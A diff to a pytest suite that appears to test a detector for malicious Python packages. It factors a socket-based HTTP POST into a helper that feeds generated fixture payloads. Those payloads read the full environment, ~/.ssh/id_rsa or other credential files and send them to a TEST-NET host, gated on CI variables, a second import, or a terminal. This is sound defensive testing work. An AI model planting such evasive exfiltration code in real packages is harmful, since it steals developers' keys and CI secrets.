@@ -16,6 +16,28 @@ from tests.fixtures.builders import Randomised, build_wheel
 pytestmark = [pytest.mark.usefixtures("sandbox_image", "no_leaks"), pytest.mark.slow]
 
 
+def _post(host: str, port: int) -> str:
+    """Source (indented for the fixtures' ``if`` bodies, before their dedent) that POSTs ``data`` to TEST-NET
+    host:port with short timeouts."""
+    return textwrap.indent(
+        textwrap.dedent(
+            f"""\
+            s = socket.socket()
+            s.settimeout(3)
+            try:
+                s.connect(({host!r}, {port}))
+                s.sendall(b"POST /c HTTP/1.1\\r\\nHost: x.invalid\\r\\nContent-Length: "
+                          + str(len(data)).encode() + b"\\r\\n\\r\\n" + data)
+                s.recv(100)
+            except OSError:
+                pass
+            finally:
+                s.close()"""
+        ),
+        " " * 12,  # the fixtures' raw templates: dedent then leaves it in the if body
+    ).lstrip()
+
+
 def test_a_ci_gate_on_a_runner_variable_through_a_copy_of_the_environment_wakes(tmp_path: Path) -> None:
     """Gated on a variable the ci pass sets but the trigger did not list (RUNNER_OS,
     GITHUB_WORKSPACE …), the job's whole environment taken from ``dict(os.environ)``
@@ -30,17 +52,7 @@ def test_a_ci_gate_on_a_runner_variable_through_a_copy_of_the_environment_wakes(
         _env = dict(os.environ)
         if os.environ.get({var!r}) == {value!r}:
             data = repr(sorted(_env.items())).encode()
-            s = socket.socket()
-            s.settimeout(3)
-            try:
-                s.connect(({host!r}, {port}))
-                s.sendall(b"POST /c HTTP/1.1\\r\\nHost: ci.invalid\\r\\nContent-Length: "
-                          + str(len(data)).encode() + b"\\r\\n\\r\\n" + data)
-                s.recv(100)
-            except OSError:
-                pass
-            finally:
-                s.close()
+            {_post(host, port)}
         """
     )
     whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
@@ -71,17 +83,7 @@ def test_a_payload_that_waits_for_a_second_import_is_caught(tmp_path: Path) -> N
                 data = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
             except OSError:
                 data = b""
-            s = socket.socket()
-            s.settimeout(3)
-            try:
-                s.connect(({host!r}, {port}))
-                s.sendall(b"POST /c HTTP/1.1\\r\\nHost: x.invalid\\r\\nContent-Length: "
-                          + str(len(data)).encode() + b"\\r\\n\\r\\n" + data)
-                s.recv(100)
-            except OSError:
-                pass
-            finally:
-                s.close()
+            {_post(host, port)}
         else:
             os.makedirs(os.path.dirname(_m), exist_ok=True)
             open(_m, "w").close()
@@ -113,17 +115,7 @@ def test_a_payload_that_runs_only_on_a_terminal_is_caught(tmp_path: Path) -> Non
                 data = open(os.path.expanduser("~/{cred}"), "rb").read()
             except OSError:
                 data = b""
-            s = socket.socket()
-            s.settimeout(3)
-            try:
-                s.connect(({host!r}, {port}))
-                s.sendall(b"POST /c HTTP/1.1\\r\\nHost: x.invalid\\r\\nContent-Length: "
-                          + str(len(data)).encode() + b"\\r\\n\\r\\n" + data)
-                s.recv(100)
-            except OSError:
-                pass
-            finally:
-                s.close()
+            {_post(host, port)}
         """
     )
     whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
